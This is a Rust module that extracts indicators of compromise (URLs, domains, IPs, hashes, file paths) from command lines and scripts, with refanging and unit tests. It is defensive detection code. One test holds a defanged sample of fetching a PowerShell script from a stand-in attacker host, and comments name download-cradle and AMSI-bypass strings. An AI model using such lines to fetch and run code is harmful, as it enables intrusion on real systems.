//! Finding indicators of compromise in free text (command lines, scripts).
//!
//! Every pattern here runs in linear time: the `regex` crate finds candidate
//! spans (it has neither look-around nor backtracking), and plain code then
//! judges each candidate from the characters around it — which is where
//! msticpy's look-around regexes went wrong (file names taken for domains,
//! every second of two adjacent hashes lost, octets over 255 accepted).
//!
//! Defanged text (`hxxps://evil[.]com`, `1.2.3[.]4`, `user[at]evil[.]com`)
//! is refanged first with the `refang` function's rules, keeping a map back
//! to the text as written, so every indicator reports both its refanged
//! `observable` and its `original` span.

use std::borrow::Cow;
use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::kinds::{IocKind, KindSet};
use crate::network::parse_ip_address;
use crate::text::refang::{refang_text, DEFANGED};
use crate::web::domain::{public_suffix, registrable_domain};

/// One indicator: its refanged, normalised value, the text as written and
/// where that text is, in Unicode code points (0-based, end exclusive).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Ioc<'a> {
    pub kind: IocKind,
    pub observable: &'a str,
    pub original: &'a str,
    pub start: usize,
    pub end: usize,
}

/// Calls `emit` for every indicator of the `kinds` in `text`, in order of
/// position (an enclosing URL or e-mail before the host inside it).
pub(crate) fn extract(text: &str, kinds: KindSet, mut emit: impl FnMut(Ioc<'_>)) {
    let norm = Normalized::new(text);
    let mut found = Vec::new();
    scan(&norm.text, kinds, &mut found);
    // Stable: at one span, the order of discovery (a URL before the
    // indicators only its decoded form shows).
    found.sort_by_key(|f| (f.span.start, std::cmp::Reverse(f.span.end)));
    found.dedup_by(|a, b| a.kind == b.kind && a.span == b.span && a.value == b.value);
    let chars = CharOffsets::new(text);
    for f in &found {
        let start = norm.original_start(f.span.start);
        let end = norm.original_end(f.span.end).max(start);
        emit(Ioc {
            kind: f.kind,
            observable: f.value.as_deref().unwrap_or(&norm.text[f.span.clone()]),
            original: &text[start..end],
            start: chars.of(start),
            end: chars.of(end),
        });
    }
}

/// A candidate indicator in the normalised text: its span and, when the
/// observable is not that span as it stands (lower-cased, decoded), its value.
#[derive(Debug)]
struct Found {
    kind: IocKind,
    span: Range<usize>,
    value: Option<String>,
}

impl Found {
    fn new(kind: IocKind, span: Range<usize>) -> Self {
        Found {
            kind,
            span,
            value: None,
        }
    }

    fn lower(kind: IocKind, span: Range<usize>, text: &str) -> Self {
        let slice = &text[span.clone()];
        let value = slice
            .bytes()
            .any(|b| b.is_ascii_uppercase())
            .then(|| slice.to_ascii_lowercase());
        Found { kind, span, value }
    }
}

// ---------------------------------------------------------------------------
// Refanging with a map back to the original text.

/// The text with defanged notation undone, and where each replacement was.
struct Normalized<'a> {
    text: Cow<'a, str>,
    /// Replaced fragments: (normalised range, original range), in order.
    edits: Vec<(Range<usize>, Range<usize>)>,
}

impl<'a> Normalized<'a> {
    fn new(original: &'a str) -> Self {
        let mut edits = Vec::new();
        if DEFANGED.find(original).is_none() {
            return Normalized {
                text: Cow::Borrowed(original),
                edits,
            };
        }
        let mut text = String::with_capacity(original.len());
        let mut last = 0;
        for m in DEFANGED.find_iter(original) {
            // The `refang` function's own rules, applied to one fragment.
            let replacement = refang_text(m.as_str());
            if replacement == m.as_str() {
                continue;
            }
            text.push_str(&original[last..m.start()]);
            let start = text.len();
            text.push_str(&replacement);
            edits.push((start..text.len(), m.range()));
            last = m.end();
        }
        text.push_str(&original[last..]);
        Normalized {
            text: Cow::Owned(text),
            edits,
        }
    }

    /// The original offset of normalised offset `p`; inside a replacement,
    /// its start (`end == false`) or end (`end == true`).
    fn map(&self, p: usize, end: bool) -> usize {
        let (mut norm, mut orig) = (0, 0);
        for (n, o) in &self.edits {
            if p <= n.start {
                break;
            }
            if p < n.end {
                return if end { o.end } else { o.start };
            }
            (norm, orig) = (n.end, o.end);
        }
        orig + (p - norm)
    }

    fn original_start(&self, p: usize) -> usize {
        self.map(p, false)
    }

    fn original_end(&self, p: usize) -> usize {
        self.map(p, true)
    }
}

/// Byte offsets to code-point offsets.
struct CharOffsets<'a> {
    text: &'a str,
    ascii: bool,
}

impl<'a> CharOffsets<'a> {
    fn new(text: &'a str) -> Self {
        CharOffsets {
            text,
            ascii: text.is_ascii(),
        }
    }

    fn of(&self, byte: usize) -> usize {
        if self.ascii {
            byte
        } else {
            self.text[..byte].chars().count()
        }
    }
}

// ---------------------------------------------------------------------------
// The scan.

/// A URL found in the text: its span and the span of its host, if any.
struct UrlSpan {
    span: Range<usize>,
    host: Option<Range<usize>>,
}

/// The URLs of a text, with what the other scanners ask of them answered
/// in logarithmic time (a text may hold thousands of URLs).
struct Urls {
    urls: Vec<UrlSpan>,
    /// The union of the URL spans, sorted and disjoint.
    cover: Vec<Range<usize>>,
    /// The spans of the hosts that are domains, sorted.
    hosts: Vec<Range<usize>>,
}

impl Urls {
    fn new(urls: Vec<UrlSpan>) -> Self {
        let mut cover: Vec<Range<usize>> = Vec::new();
        for u in &urls {
            match cover.last_mut() {
                Some(last) if u.span.start <= last.end => last.end = last.end.max(u.span.end),
                _ => cover.push(u.span.clone()),
            }
        }
        let mut hosts: Vec<Range<usize>> = urls.iter().filter_map(|u| u.host.clone()).collect();
        hosts.sort_by_key(|h| (h.start, h.end));
        Urls { urls, cover, hosts }
    }

    /// Whether byte `i` is inside a URL.
    fn contains(&self, i: usize) -> bool {
        let k = self.cover.partition_point(|r| r.start <= i);
        k > 0 && self.cover[k - 1].contains(&i)
    }

    fn is_host(&self, span: &Range<usize>) -> bool {
        self.hosts
            .binary_search_by_key(&(span.start, span.end), |h| (h.start, h.end))
            .is_ok()
    }
}

fn scan(t: &str, kinds: KindSet, out: &mut Vec<Found>) {
    use IocKind::*;
    // URL spans decide what e-mail, domain and path candidates are.
    let urls = Urls::new(if kinds.any(&[Url, Dns, Email, WindowsPath, LinuxPath]) {
        scan_urls(t, kinds, out)
    } else {
        Vec::new()
    });
    if kinds.any(&[Email, Dns]) {
        scan_emails(t, kinds, &urls, out);
    }
    if kinds.contains(Ipv4) {
        scan_ipv4(t, out);
    }
    if kinds.contains(Ipv6) {
        scan_ipv6(t, out);
    }
    if kinds.any(&[Md5, Sha1, Sha256]) {
        scan_hashes(t, kinds, out);
    }
    if kinds.contains(Dns) {
        scan_domains(t, &urls, out);
    }
    if kinds.contains(WindowsPath) {
        scan_windows_paths(t, out);
    }
    if kinds.contains(LinuxPath) {
        scan_linux_paths(t, &urls, out);
    }
    add_decoded_urls(t, kinds, &urls.urls, out);
}

fn byte_before(t: &str, i: usize) -> Option<u8> {
    i.checked_sub(1).map(|j| t.as_bytes()[j])
}

fn byte_at(t: &str, i: usize) -> Option<u8> {
    t.as_bytes().get(i).copied()
}

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Whether a non-ASCII letter or digit touches `span` (`évil.com`,
/// `user@exampleé.com`): the ASCII-only scanners would otherwise report a
/// piece of a word written in another script.
fn touches_non_ascii_word(t: &str, span: &Range<usize>) -> bool {
    let non_ascii_word = |c: char| !c.is_ascii() && c.is_alphanumeric();
    t[..span.start]
        .chars()
        .next_back()
        .is_some_and(non_ascii_word)
        || t[span.end..].chars().next().is_some_and(non_ascii_word)
}

// --- URLs -------------------------------------------------------------------

static URL_SCHEME: LazyLock<Regex> = LazyLock::new(|| {
    // `\b` in ASCII mode: `script:https://` and `/i:http://` start a URL,
    // `xhttp://` does not. `fxp` and `sfxp` are defanged `ftp`/`sftp`.
    Regex::new(r"(?i)(?-u:\b)(?:https?|s?f[tx]ps?|telnet|ldaps?|file|wss?|smb)://")
        .expect("valid URL scheme pattern")
});

static URL_SCHEME_HERE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^(?:https?|s?f[tx]ps?|telnet|ldaps?|file|wss?|smb)://")
        .expect("valid URL scheme pattern")
});

/// Where a URL starting at `start` (its scheme) ends: at white space, a
/// quote or another character that cannot be in a URL written in a command
/// line, without trailing punctuation that is not part of it (`.` `,` `;`
/// `:` `!` `?` and unbalanced `)` `]`).
fn url_end(t: &str, from: usize) -> usize {
    let b = t.as_bytes();
    let mut end = from;
    while end < b.len() {
        let c = b[end];
        let stop = c <= b' '
            || c >= 0x7f
            || matches!(
                c,
                b'"' | b'\'' | b'<' | b'>' | b'`' | b'|' | b'\\' | b'^' | b'{' | b'}'
            )
            // `http://a/x,http://b/y` is two URLs.
            || (matches!(c, b',' | b';') && URL_SCHEME_HERE.is_match(&t[end + 1..]));
        if stop {
            break;
        }
        end += 1;
    }
    let count = |c: u8| b[from..end].iter().filter(|&&x| x == c).count();
    let (mut parens, mut brackets) = (count(b')') as isize - count(b'(') as isize, 0);
    brackets += count(b']') as isize - count(b'[') as isize;
    while end > from {
        let trim = match b[end - 1] {
            b'.' | b',' | b';' | b':' | b'!' | b'?' | b'*' => true,
            b')' if parens > 0 => {
                parens -= 1;
                true
            }
            b']' if brackets > 0 => {
                brackets -= 1;
                true
            }
            _ => false,
        };
        if !trim {
            break;
        }
        end -= 1;
    }
    end
}

/// What the host of a URL is.
enum Host {
    /// A name under a public suffix: also a `dns` indicator.
    Domain,
    /// An IP address, a single-label name (`http://server/x`) or a name
    /// under a private suffix (`.local`, `.corp`): a URL, but no `dns`.
    Other,
}

/// Suffixes of private networks and special-use names (RFC 6761, 6762 and
/// common practice): hosts under them make valid URLs but are not public
/// domains.
const PRIVATE_SUFFIXES: &[&str] = &[
    "local",
    "localdomain",
    "localhost",
    "lan",
    "home",
    "corp",
    "internal",
    "intranet",
    "private",
    "domain",
    "test",
    "example",
    "invalid",
    "onion",
    "arpa",
];

fn classify_host(host: &str) -> Option<Host> {
    if host.is_empty() {
        return None;
    }
    if let Some(inner) = host.strip_prefix('[') {
        let inner = inner.strip_suffix(']')?;
        return parse_ip_address(inner)
            .filter(|ip| ip.is_ipv6())
            .map(|_| Host::Other);
    }
    if host.bytes().all(|b| b.is_ascii_digit() || b == b'.') {
        return is_ipv4(host).then_some(Host::Other);
    }
    if !is_hostname(host) {
        return None;
    }
    if !host.contains('.') {
        return Some(Host::Other);
    }
    if registrable_domain(host).is_some() {
        return Some(Host::Domain);
    }
    let tld = host.rsplit('.').next().unwrap_or(host);
    // `http://system.management.automation.amsiutils` is a string trick,
    // not a place: a dotted host needs a suffix that exists somewhere.
    PRIVATE_SUFFIXES
        .iter()
        .any(|s| s.eq_ignore_ascii_case(tld))
        .then_some(Host::Other)
}

/// The host span of the URL `t[start..end]` whose authority starts at
/// `authority`, and what the host is; `None` when the URL is not valid.
fn url_host(
    t: &str,
    scheme: &str,
    authority: usize,
    end: usize,
) -> Option<(Range<usize>, Option<Host>)> {
    let rest = &t[authority..end];
    let authority_len = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let auth = &rest[..authority_len];
    let host_start = auth.rfind('@').map_or(0, |i| i + 1);
    let host_port = &auth[host_start..];
    let host_len = if host_port.starts_with('[') {
        host_port.find(']').map_or(host_port.len(), |i| i + 1)
    } else {
        host_port.find(':').unwrap_or(host_port.len())
    };
    let port = &host_port[host_len..];
    let port_ok = port.is_empty()
        || port
            .strip_prefix(':')
            .is_some_and(|p| p.bytes().all(|b| b.is_ascii_digit()));
    let host = &host_port[..host_len];
    let span = authority + host_start..authority + host_start + host_len;
    if scheme.eq_ignore_ascii_case("file") {
        // file://C:/x, file:///C:/x, file://server/share: anything goes.
        return (!rest.is_empty()).then(|| (span, classify_host(host).filter(|_| port_ok)));
    }
    if !port_ok {
        return None;
    }
    let kind = classify_host(host)?;
    Some((span, Some(kind)))
}

/// `sfxp` → `sftp`, `HTTP` → `http`: the scheme in its usual form.
fn normal_scheme(scheme: &str) -> Cow<'_, str> {
    if scheme.bytes().all(|b| b.is_ascii_lowercase()) && !scheme.contains("fxp") {
        return Cow::Borrowed(scheme);
    }
    let lower = scheme.to_ascii_lowercase();
    Cow::Owned(if lower.ends_with("fxp") || lower.ends_with("fxps") {
        lower.replacen("fxp", "ftp", 1)
    } else {
        lower
    })
}

fn scan_urls(t: &str, kinds: KindSet, out: &mut Vec<Found>) -> Vec<UrlSpan> {
    let mut urls = Vec::new();
    for m in URL_SCHEME.find_iter(t) {
        let end = url_end(t, m.end());
        if end <= m.end() {
            continue;
        }
        let scheme = &t[m.start()..m.end() - 3];
        let Some((host_span, host)) = url_host(t, scheme, m.end(), end) else {
            continue;
        };
        let span = m.start()..end;
        if kinds.contains(IocKind::Url) {
            let value = match normal_scheme(scheme) {
                Cow::Borrowed(_) => None,
                Cow::Owned(s) => Some(format!("{s}{}", &t[m.end() - 3..end])),
            };
            out.push(Found {
                kind: IocKind::Url,
                span: span.clone(),
                value,
            });
        }
        let is_domain = matches!(host, Some(Host::Domain));
        if is_domain && kinds.contains(IocKind::Dns) {
            out.push(Found::lower(IocKind::Dns, host_span.clone(), t));
        }
        urls.push(UrlSpan {
            span,
            host: is_domain.then_some(host_span),
        });
    }
    urls
}

/// `%`-escapes decoded (invalid UTF-8 replaced); `None` without escapes.
fn percent_decode(s: &str) -> Option<String> {
    let b = s.as_bytes();
    let hex = |c: u8| (c as char).to_digit(16).map(|d| d as u8);
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    let mut decoded = false;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() {
            if let (Some(h), Some(l)) = (hex(b[i + 1]), hex(b[i + 2])) {
                out.push(h << 4 | l);
                i += 3;
                decoded = true;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    decoded.then(|| String::from_utf8_lossy(&out).into_owned())
}

/// Every URL with `%`-escapes is checked in its decoded form too (msticpy
/// decodes only the first URL of a text): the decoded URL itself, and the
/// indicators only visible once decoded (`?u=http%3A%2F%2Fevil.com`), are
/// reported at the span of the URL as written.
fn add_decoded_urls(t: &str, kinds: KindSet, urls: &[UrlSpan], out: &mut Vec<Found>) {
    for url in urls {
        let written = &t[url.span.clone()];
        let Some(decoded) = percent_decode(written) else {
            continue;
        };
        // What the written URL already shows is not reported twice.
        let seen: Vec<(IocKind, String)> = out
            .iter()
            .filter(|f| f.span.start >= url.span.start && f.span.end <= url.span.end)
            .map(|f| {
                let v = f.value.as_deref().unwrap_or(&t[f.span.clone()]);
                (f.kind, v.to_ascii_lowercase())
            })
            .collect();
        // Network indicators only: the hex IDs in a decoded query string
        // (`data=...%7C<32 hex>%7C`) are GUIDs and tokens, not file hashes.
        let mut network = KindSet::only(IocKind::Url);
        for k in [IocKind::Dns, IocKind::Ipv4, IocKind::Ipv6, IocKind::Email] {
            network = network.with(k);
        }
        let mut inner = Vec::new();
        scan(&decoded, kinds.intersect(network), &mut inner);
        let mut added: Vec<(IocKind, String)> = Vec::new();
        for f in inner {
            let value = f.value.unwrap_or_else(|| decoded[f.span].to_string());
            let key = (f.kind, value.to_ascii_lowercase());
            if seen.contains(&key) || added.contains(&key) {
                continue;
            }
            added.push(key);
            out.push(Found {
                kind: f.kind,
                span: url.span.clone(),
                value: Some(value),
            });
        }
    }
}

// --- host names -------------------------------------------------------------

/// Letters, digits and inner hyphens in 1–63-character labels, at most 253
/// characters, and a last label that is a word (`xn--` included), not a
/// number.
pub(crate) fn is_hostname(host: &str) -> bool {
    let host = host.strip_suffix('.').unwrap_or(host);
    if host.is_empty() || host.len() > 253 {
        return false;
    }
    let labels_ok = host.split('.').all(|label| {
        !label.is_empty()
            && label.len() <= 63
            && label
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-')
            && !label.starts_with('-')
            && !label.ends_with('-')
    });
    let tld = host.rsplit('.').next().unwrap_or(host);
    labels_ok
        && (tld.bytes().all(|b| b.is_ascii_alphabetic())
            || tld.to_ascii_lowercase().starts_with("xn--"))
}

/// A host name under a public suffix (from the Public Suffix List compiled
/// into the `psl` crate: never fetched).
pub(crate) fn is_public_domain(host: &str) -> bool {
    is_hostname(host) && registrable_domain(host).is_some()
}

// --- e-mail addresses -------------------------------------------------------

fn is_local_part_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'%' | b'+' | b'-')
}

fn is_host_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-')
}

fn scan_emails(t: &str, kinds: KindSet, urls: &Urls, out: &mut Vec<Found>) {
    let b = t.as_bytes();
    for (at, _) in t.match_indices('@') {
        // `https://user@host/`: a credential, not an address.
        if urls.contains(at) {
            continue;
        }
        let mut start = at;
        while start > 0 && is_local_part_byte(b[start - 1]) {
            start -= 1;
        }
        while start < at && b[start] == b'.' {
            start += 1;
        }
        let mut end = at + 1;
        while end < b.len() && is_host_byte(b[end]) {
            end += 1;
        }
        while end > at + 1 && matches!(b[end - 1], b'.' | b'-') {
            end -= 1;
        }
        let local = &t[start..at];
        let domain = &t[at + 1..end];
        if local.is_empty()
            || local.len() > 64
            || local.ends_with('.')
            || touches_non_ascii_word(t, &(start..end))
        {
            continue;
        }
        // `admin@corp.local` is a Windows user name (UPN), not an address.
        if !is_public_domain(domain) {
            continue;
        }
        if kinds.contains(IocKind::Email) {
            let value = domain
                .bytes()
                .any(|c| c.is_ascii_uppercase())
                .then(|| format!("{local}@{}", domain.to_ascii_lowercase()));
            out.push(Found {
                kind: IocKind::Email,
                span: start..end,
                value,
            });
        }
        if kinds.contains(IocKind::Dns) {
            out.push(Found::lower(IocKind::Dns, at + 1..end, t));
        }
    }
}

// --- IP addresses -----------------------------------------------------------

static DOTTED_NUMBER: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[0-9]+(?:\.[0-9]+)+").expect("valid pattern"));

/// Four decimal octets from 0 to 255 without leading zeros (which some
/// parsers read as octal: `010.1.1.1` is ambiguous, and Python rejects it).
pub(crate) fn is_ipv4(s: &str) -> bool {
    let mut parts = 0;
    for part in s.split('.') {
        parts += 1;
        let ok = !part.is_empty()
            && part.len() <= 3
            && part.bytes().all(|b| b.is_ascii_digit())
            && (part == "0" || !part.starts_with('0'))
            && part.parse::<u16>().is_ok_and(|n| n <= 255);
        if !ok || parts > 4 {
            return false;
        }
    }
    parts == 4
}

/// Whether the words just before `start` say that a version follows
/// (`Version=4.0.0.0`, `version 1.2.3.4`, `v1.2.3.4` is caught earlier).
fn follows_version_word(t: &str, start: usize) -> bool {
    let before = t[..start]
        .trim_end_matches([' ', '=', ':', '"', '\''])
        .as_bytes();
    before.len() >= 7 && before[before.len() - 7..].eq_ignore_ascii_case(b"version")
}

fn scan_ipv4(t: &str, out: &mut Vec<Found>) {
    for m in DOTTED_NUMBER.find_iter(t) {
        // A whole dotted number, standing alone: not `v1.2.3.4`,
        // `Agent_1.0.0.178`, `x.1.2.3.4` or the start of `1.2.3.4.5`.
        let before_ok = byte_before(t, m.start()).is_none_or(|c| !is_word(c) && c != b'.');
        let after_ok = match byte_at(t, m.end()) {
            None => true,
            Some(b'.') => byte_at(t, m.end() + 1).is_none_or(|c| !c.is_ascii_alphanumeric()),
            Some(c) => !is_word(c),
        };
        if before_ok && after_ok && is_ipv4(m.as_str()) && !follows_version_word(t, m.start()) {
            out.push(Found::new(IocKind::Ipv4, m.range()));
        }
    }
}

static IPV6_CANDIDATE: LazyLock<Regex> = LazyLock::new(|| {
    // The dotted tail comes first so `::ffff:192.0.2.128` is seen whole.
    Regex::new(r"(?i)(?:[0-9a-f]{0,4}:){2,7}(?:[0-9]{1,3}(?:\.[0-9]{1,3}){3}|[0-9a-f]{0,4})")
        .expect("valid pattern")
});

fn scan_ipv6(t: &str, out: &mut Vec<Found>) {
    for m in IPV6_CANDIDATE.find_iter(t) {
        let s = m.as_str();
        let before_ok =
            byte_before(t, m.start()).is_none_or(|c| !is_word(c) && c != b':' && c != b'.');
        let after_ok = byte_at(t, m.end()).is_none_or(|c| !is_word(c) && c != b':' && c != b'.');
        // IPv4-mapped and -embedded addresses are reported as the IPv4
        // address they carry; `::` alone (a batch-file comment) and names
        // without a digit (`[Type]::Add`) are not addresses.
        let plausible = !s.contains('.') && s != "::" && s.bytes().any(|c| c.is_ascii_digit());
        if before_ok && after_ok && plausible && s.parse::<std::net::Ipv6Addr>().is_ok() {
            out.push(Found::lower(IocKind::Ipv6, m.range(), t));
        }
    }
}

// --- hashes -----------------------------------------------------------------

static HEX_RUN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[0-9A-Fa-f]{32,}").expect("valid pattern"));

/// Hex that looks like a digest rather than a number, a word or padding:
/// digits and letters in one case, and more than one distinct character.
pub(crate) fn is_plausible_hash(hex: &str) -> bool {
    let b = hex.as_bytes();
    let digit = b.iter().any(u8::is_ascii_digit);
    let lower = b.iter().any(|c| matches!(c, b'a'..=b'f'));
    let upper = b.iter().any(|c| matches!(c, b'A'..=b'F'));
    let repeated = b.iter().all(|&c| c == b[0]);
    !b.is_empty()
        && b.iter().all(u8::is_ascii_hexdigit)
        && digit
        && (lower || upper)
        && !(lower && upper)
        && !repeated
}

fn scan_hashes(t: &str, kinds: KindSet, out: &mut Vec<Found>) {
    for m in HEX_RUN.find_iter(t) {
        let Some(kind) = IocKind::hash_of_len(m.len()) else {
            // Longer runs are keys, blobs or padding, not digests.
            continue;
        };
        if !kinds.contains(kind) {
            continue;
        }
        // `CSC<32 hex>.TMP`, `tmp<32 hex>.rsp`: part of a file name.
        let before_ok = byte_before(t, m.start()).is_none_or(|c| !is_word(c));
        // `{<32 hex>}` is a GUID written without dashes.
        let guid = byte_before(t, m.start()) == Some(b'{') && byte_at(t, m.end()) == Some(b'}');
        if before_ok
            && !guid
            && is_plausible_hash(m.as_str())
            && !touches_non_ascii_word(t, &m.range())
        {
            out.push(Found::lower(kind, m.range(), t));
        }
    }
}

// --- domain names -----------------------------------------------------------

static DOTTED_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9_-]+(?:\.[A-Za-z0-9_-]+)+").expect("valid pattern"));

/// Public suffixes that are also file extensions or member names seen in
/// command lines and scripts (`T1197.md`, `report.zip`, `winpwnage.py`,
/// `vdir.name`, `WScript.Shell`). A name standing alone with one of these
/// is taken for a file or an identifier; in a URL, a UNC path or an e-mail
/// address it is a domain.
const FILE_OR_MEMBER_SUFFIXES: &[&str] = &[
    "zip",
    "mov",
    "md",
    "py",
    "ps",
    "sh",
    "rs",
    "so",
    "cab",
    "man",
    "cat",
    "java",
    "pm",
    "properties",
    "pid",
    "run",
    "read",
    "open",
    "name",
    "shell",
    "data",
    "save",
    "help",
    "page",
    "host",
    "tools",
    "map",
    "call",
    "new",
    "menu",
    "global",
    "group",
    "zone",
    "id",
    "web",
    "media",
    "windows",
    "office",
    "security",
    "services",
    "management",
    "photos",
];

/// Why a name standing alone in the text is not a domain, if it is not.
fn standalone_name_is_domain(t: &str, span: &Range<usize>) -> bool {
    let name = &t[span.clone()];
    // `C:\Windows\Microsoft.NET\...`, `/atomics/T1197.md`, `$vdir.name`,
    // `[System.Net.WebClient]`, `h.Open(`: paths, variables, code.
    let before_ok = byte_before(t, span.start)
        .is_none_or(|c| !matches!(c, b'\\' | b'/' | b'$' | b'[' | b'.' | b'%' | b'&'));
    let after_ok = byte_at(t, span.end).is_none_or(|c| !matches!(c, b'(' | b'\\' | b'%'));
    if !before_ok || !after_ok {
        return false;
    }
    let Some(suffix) = public_suffix(name) else {
        return false;
    };
    if !suffix.contains('.') && FILE_OR_MEMBER_SUFFIXES.contains(&suffix.as_str()) {
        return false;
    }
    // `Microsoft.NET`, `Content.IE`, `EventFilter.Name`: .NET, COM and
    // PowerShell names capitalise the last part; domains are written in
    // lower case or entirely in capitals.
    let tld = name.rsplit('.').next().unwrap_or(name);
    let tld_has_capital = tld.bytes().any(|c| c.is_ascii_uppercase());
    let all_capitals = !name.bytes().any(|c| c.is_ascii_lowercase());
    // Whatever their case, `WWW.Example.ORG` and `Evil.COM/x` are hosts: a
    // `www.` label or a path after the name says so.
    let host_like = name
        .get(..4)
        .is_some_and(|w| w.eq_ignore_ascii_case("www."))
        || byte_at(t, span.end) == Some(b'/');
    !tld_has_capital || all_capitals || host_like
}

/// Whether `span` is the host of a UNC path (`\\host.example.com\share`).
fn is_unc_host(t: &str, span: &Range<usize>) -> bool {
    let before = &t.as_bytes()[..span.start];
    before.ends_with(b"\\\\")
        && before[..before.len() - 2]
            .last()
            .is_none_or(|&c| !(c.is_ascii_alphanumeric() || c == b'\\' || c == b':'))
}

fn scan_domains(t: &str, urls: &Urls, out: &mut Vec<Found>) {
    for m in DOTTED_NAME.find_iter(t) {
        let mut span = m.range();
        // A leading `-` is a switch (`-evil.com` is rare, `--host` is not).
        while span.start < span.end && t.as_bytes()[span.start] == b'-' {
            span.start += 1;
        }
        let name = &t[span.clone()];
        if name.contains('_') || !is_hostname(name) || touches_non_ascii_word(t, &span) {
            continue;
        }
        // E-mail domains are judged with their address.
        if byte_before(t, span.start) == Some(b'@') {
            continue;
        }
        if urls.is_host(&span) {
            continue; // already reported as the URL's host
        }
        let is_domain = if is_unc_host(t, &span) {
            is_public_domain(name)
        } else {
            is_public_domain(name) && standalone_name_is_domain(t, &span)
        };
        if is_domain {
            out.push(Found::lower(IocKind::Dns, span, t));
        }
    }
}

// --- paths ------------------------------------------------------------------

static WINDOWS_PATH_ROOT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:[a-z]:\\|\\\\[a-z0-9_.$-]+\\|\.\.?\\|%[a-z0-9_()]+%\\)")
        .expect("valid pattern")
});

/// Characters that cannot be in a Windows file name (`:` only after the
/// drive letter).
fn ends_windows_path(c: u8) -> bool {
    matches!(
        c,
        b'/' | b':' | b'*' | b'?' | b'"' | b'\'' | b'<' | b'>' | b'|' | b'\r' | b'\n' | 0
    )
}

fn scan_windows_paths(t: &str, out: &mut Vec<Found>) {
    let b = t.as_bytes();
    let mut from = 0;
    while let Some(m) = WINDOWS_PATH_ROOT.find_at(t, from) {
        from = m.end();
        if byte_before(t, m.start()).is_some_and(|c| c.is_ascii_alphanumeric() || c == b'\\') {
            continue;
        }
        // Folders may contain spaces (`C:\Program Files\x.exe`); the file
        // name at the end stops at the first space.
        let mut end = m.end();
        let mut i = m.end();
        loop {
            let seg_end = (i..b.len())
                .find(|&j| b[j] == b'\\' || ends_windows_path(b[j]))
                .unwrap_or(b.len());
            if seg_end < b.len() && b[seg_end] == b'\\' && seg_end > i {
                end = seg_end;
                i = seg_end + 1;
                continue;
            }
            let name_end = (i..seg_end)
                .find(|&j| b[j] == b' ' || b[j] == b'\t')
                .unwrap_or(seg_end);
            if name_end > i {
                end = name_end;
            }
            break;
        }
        if end > m.end() {
            out.push(Found::new(IocKind::WindowsPath, m.start()..end));
            from = end;
        }
    }
}

static LINUX_PATH_ROOT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:\.\.?/|~/|/)[A-Za-z0-9._-]").expect("valid pattern"));

fn ends_linux_path(c: u8) -> bool {
    // `:` too: `/url:https://...` is a Windows switch and its value.
    c <= b' '
        || matches!(
            c,
            b'"' | b'\'' | b'<' | b'>' | b'|' | b';' | b'&' | b'`' | b'(' | b')' | b'\\' | b':'
        )
}

fn scan_linux_paths(t: &str, urls: &Urls, out: &mut Vec<Found>) {
    let b = t.as_bytes();
    let mut from = 0;
    while let Some(m) = LINUX_PATH_ROOT.find_at(t, from) {
        from = m.start() + 1;
        let start = m.start();
        // A path starts a word: not inside `a/b`, a URL or a Windows path.
        if byte_before(t, start).is_some_and(|c| {
            !matches!(
                c,
                b' ' | b'\t'
                    | b'\n'
                    | b'\r'
                    | b'"'
                    | b'\''
                    | b'='
                    | b':'
                    | b'('
                    | b'>'
                    | b'<'
                    | b'|'
                    | b','
            )
        }) || urls.contains(start)
        {
            continue;
        }
        let mut end = start;
        while end < b.len() && !ends_linux_path(b[end]) {
            end += 1;
        }
        while end > start && matches!(b[end - 1], b'.' | b',' | b':' | b';') {
            end -= 1;
        }
        let path = &t[start..end];
        // `/c`, `/transfer`: Windows switches. An absolute path needs two
        // parts (`/bin/sh`); `./x`, `../x`, `~/x` are paths already.
        let parts = path.split('/').filter(|p| !p.is_empty()).count();
        if path.starts_with('/') && parts < 2 {
            continue;
        }
        out.push(Found::new(IocKind::LinuxPath, start..end));
        from = end;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str, kinds: KindSet) -> Vec<(String, String)> {
        let mut out = Vec::new();
        extract(text, kinds, |ioc| {
            out.push((ioc.kind.name().to_string(), ioc.observable.to_string()))
        });
        out
    }

    fn all(text: &str) -> Vec<(String, String)> {
        found(text, KindSet::DEFAULT)
    }

    fn pairs(items: &[(&str, &str)]) -> Vec<(String, String)> {
        items
            .iter()
            .map(|(a, b)| (a.to_string(), b.to_string()))
            .collect()
    }

    #[test]
    fn defanged_indicators_are_refanged_with_their_original_span() {
        let text = "get hxxps://evil[.]com/a.ps1 from 1.2.3[.]4 or mail bob[at]evil(.)com";
        let mut got = Vec::new();
        extract(text, KindSet::DEFAULT, |i| {
            got.push((
                i.kind.name(),
                i.observable.to_string(),
                i.original.to_string(),
                i.start,
                i.end,
            ))
        });
        assert_eq!(
            got,
            vec![
                (
                    "url",
                    "https://evil.com/a.ps1".into(),
                    "hxxps://evil[.]com/a.ps1".into(),
                    4,
                    28
                ),
                ("dns", "evil.com".into(), "evil[.]com".into(), 12, 22),
                ("ipv4", "1.2.3.4".into(), "1.2.3[.]4".into(), 34, 43),
                (
                    "email",
                    "bob@evil.com".into(),
                    "bob[at]evil(.)com".into(),
                    52,
                    69
                ),
                ("dns", "evil.com".into(), "evil(.)com".into(), 59, 69),
            ]
        );
        for (_, _, original, start, end) in got {
            let chars: String = text.chars().skip(start).take(end - start).collect();
            assert_eq!(chars, original);
        }
    }

    #[test]
    fn no_piece_of_a_word_in_another_script() {
        // The ASCII tail of `évil.example.com` is not a domain of its own,
        // nor is the end of `usér@example.com` an address.
        assert_eq!(
